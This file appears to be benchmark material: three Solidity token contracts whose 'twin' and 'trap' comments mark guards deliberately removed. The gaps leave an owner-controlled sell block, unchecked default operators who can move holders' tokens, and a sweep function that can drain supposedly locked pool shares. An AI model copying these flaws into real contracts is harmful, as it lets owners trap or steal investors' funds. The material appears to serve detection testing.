// 0.5 runs=200
pragma solidity ^0.5.17;

contract SafeMath {
    function safeAdd(uint a, uint b) internal pure returns (uint c) {
        c = a + b;
        require(c >= a);
    }

    function safeSub(uint a, uint b) internal pure returns (uint c) {
        require(b <= a);
        c = a - b;
    }
}

contract Owned {
    address public owner;
    address public newOwner;

    event OwnershipTransferred(address indexed _from, address indexed _to);

    constructor() public {
        owner = msg.sender;
    }

    modifier onlyOwner {
        require(msg.sender == owner);
        _;
    }

    function transferOwnership(address _newOwner) public onlyOwner {
        newOwner = _newOwner;
    }

    function acceptOwnership() public {
        require(msg.sender == newOwner);
        emit OwnershipTransferred(owner, newOwner);
        owner = newOwner;
        newOwner = address(0);
    }
}

/// A coin whose knobs are tuned by number.
contract HurdyGurdy is SafeMath, Owned {
    string public symbol = "HURDY";
    string public name = "Hurdy Gurdy";
    uint8 public decimals = 18;
    uint public _totalSupply;
    uint128 public largestSale;
    uint64 public pause;
    address public drum;

    mapping(address => uint) balances;
    mapping(address => mapping(address => uint)) allowed;
    mapping(address => uint) lastTurn;

    event Transfer(address indexed from, address indexed to, uint tokens);
    event Approval(address indexed tokenOwner, address indexed spender, uint tokens);
    event Tuned(uint8 knob, uint value);

    constructor() public {
        _totalSupply = 77000000 * 10**uint(decimals);
        largestSale = uint128(_totalSupply / 25);
        balances[owner] = _totalSupply;
        emit Transfer(address(0), owner, _totalSupply);
    }

    function setDrum(address pool) public onlyOwner {
        require(drum == address(0) && pool != address(0));
        drum = pool;
    }

    /// Knob 1 is the largest sale, knob 2 the seconds between two sales of an account.
    function tune(uint8 knob, uint value) public onlyOwner {
        if (knob == 1) {
            // twin: require(value >= _totalSupply / 200);
            require(value < 2**128);
            largestSale = uint128(value);
        } else if (knob == 2) {
            require(value <= 60);
            pause = uint64(value);
        } else {
            revert();
        }
        emit Tuned(knob, value);
    }

    function totalSupply() public view returns (uint) {
        return _totalSupply;
    }

    function balanceOf(address tokenOwner) public view returns (uint balance) {
        return balances[tokenOwner];
    }

    function allowance(address tokenOwner, address spender) public view returns (uint remaining) {
        return allowed[tokenOwner][spender];
    }

    function transfer(address to, uint tokens) public returns (bool success) {
        turn(msg.sender, to, tokens);
        return true;
    }

    function approve(address spender, uint tokens) public returns (bool success) {
        allowed[msg.sender][spender] = tokens;
        emit Approval(msg.sender, spender, tokens);
        return true;
    }

    function transferFrom(address from, address to, uint tokens) public returns (bool success) {
        allowed[from][msg.sender] = safeSub(allowed[from][msg.sender], tokens);
        turn(from, to, tokens);
        return true;
    }

    function turn(address from, address to, uint tokens) internal {
        if (to == drum && from != owner) {
            require(tokens <= largestSale);
            require(now >= safeAdd(lastTurn[from], pause));
            lastTurn[from] = now;
        }
        balances[from] = safeSub(balances[from], tokens);
        balances[to] = safeAdd(balances[to], tokens);
        emit Transfer(from, to, tokens);
    }
}

/// In the manner of ERC-777: operators move what holders have, as long as these let them.
contract Postilion is SafeMath {
    string private _name = "Postilion";
    string private _symbol = "POSTN";
    uint private _total;
    address[] private _defaults;
    mapping(address => bool) private _isDefault;
    mapping(address => uint) private _balances;
    mapping(address => mapping(address => uint)) private _allowances;
    mapping(address => mapping(address => bool)) private _operators;
    mapping(address => mapping(address => bool)) private _revoked;

    event Sent(address indexed operator, address indexed from, address indexed to, uint amount, bytes data, bytes operatorData);
    event AuthorizedOperator(address indexed operator, address indexed holder);
    event RevokedOperator(address indexed operator, address indexed holder);
    event Transfer(address indexed from, address indexed to, uint value);
    event Approval(address indexed holder, address indexed spender, uint value);

    constructor(address[] memory defaults) public {
        // trap {
        _defaults = defaults;
        for (uint i = 0; i < defaults.length; i++) _isDefault[defaults[i]] = true;
        // trap }
        // twin: require(defaults.length < 10);
        _total = 15000000 * 10**18;
        _balances[msg.sender] = _total;
        emit Transfer(address(0), msg.sender, _total);
    }

    function name() public view returns (string memory) {
        return _name;
    }

    function symbol() public view returns (string memory) {
        return _symbol;
    }

    function decimals() public pure returns (uint8) {
        return 18;
    }

    function granularity() public pure returns (uint) {
        return 1;
    }

    function totalSupply() public view returns (uint) {
        return _total;
    }

    function balanceOf(address holder) public view returns (uint) {
        return _balances[holder];
    }

    function defaultOperators() public view returns (address[] memory) {
        return _defaults;
    }

    function isOperatorFor(address operator, address holder) public view returns (bool) {
        return operator == holder || (_isDefault[operator] && !_revoked[holder][operator]) || _operators[holder][operator];
    }

    function authorizeOperator(address operator) public {
        require(msg.sender != operator, "777: self");
        if (_isDefault[operator]) delete _revoked[msg.sender][operator];
        else _operators[msg.sender][operator] = true;
        emit AuthorizedOperator(operator, msg.sender);
    }

    function revokeOperator(address operator) public {
        require(msg.sender != operator, "777: self");
        if (_isDefault[operator]) _revoked[msg.sender][operator] = true;
        else delete _operators[msg.sender][operator];
        emit RevokedOperator(operator, msg.sender);
    }

    function send(address to, uint amount, bytes memory data) public {
        _send(msg.sender, msg.sender, to, amount, data, "");
    }

    function operatorSend(address from, address to, uint amount, bytes memory data, bytes memory operatorData) public {
        require(isOperatorFor(msg.sender, from), "777: not an operator");
        _send(msg.sender, from, to, amount, data, operatorData);
    }

    function allowance(address holder, address spender) public view returns (uint) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint value) public returns (bool) {
        _allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint amount) public returns (bool) {
        _send(msg.sender, msg.sender, to, amount, "", "");
        return true;
    }

    function transferFrom(address from, address to, uint amount) public returns (bool) {
        _allowances[from][msg.sender] = safeSub(_allowances[from][msg.sender], amount);
        _send(msg.sender, from, to, amount, "", "");
        return true;
    }

    function _send(address operator, address from, address to, uint amount, bytes memory data, bytes memory operatorData) private {
        require(to != address(0), "777: to nobody");
        _balances[from] = safeSub(_balances[from], amount);
        _balances[to] = safeAdd(_balances[to], amount);
        emit Sent(operator, from, to, amount, data, operatorData);
        emit Transfer(from, to, amount);
    }
}

interface Coin {
    function balanceOf(address account) external view returns (uint);
    function transfer(address to, uint amount) external returns (bool);
    function transferFrom(address from, address to, uint amount) external returns (bool);
}

/// Keeps the shares of its own pool, so that nobody can take them.
contract Hearthstone is SafeMath {
    string public constant name = "Hearthstone Coin";
    string public constant symbol = "HEARTH";
    uint8 public constant decimals = 9;
    uint public totalSupply = 3000000 * 10**9;
    address public treasurer;
    address public pool;
    uint public walledIn;
    mapping(address => uint) public balanceOf;
    mapping(address => mapping(address => uint)) public allowance;

    event Transfer(address indexed from, address indexed to, uint value);
    event Approval(address indexed holder, address indexed spender, uint value);
    event WalledIn(address indexed pool, uint shares);

    constructor() public {
        treasurer = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function wallIn(address _pool) external {
        require(msg.sender == treasurer && pool == address(0), "done");
        pool = _pool;
        walledIn = Coin(_pool).balanceOf(msg.sender);
        require(Coin(_pool).transferFrom(msg.sender, address(this), walledIn), "not allowed");
        emit WalledIn(_pool, walledIn);
    }

    /// Coins that somebody sent here by mistake.
    function sweep(address coin, uint amount) external {
        require(msg.sender == treasurer, "not the treasurer");
        // twin: require(coin != pool, "the wall stays");
        require(Coin(coin).transfer(treasurer, amount), "failed");
    }

    function approve(address spender, uint value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint value) external returns (bool) {
        shift(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint value) external returns (bool) {
        allowance[from][msg.sender] = safeSub(allowance[from][msg.sender], value);
        shift(from, to, value);
        return true;
    }

    function shift(address from, address to, uint value) private {
        balanceOf[from] = safeSub(balanceOf[from], value);
        balanceOf[to] = safeAdd(balanceOf[to], value);
        emit Transfer(from, to, value);
    }
}
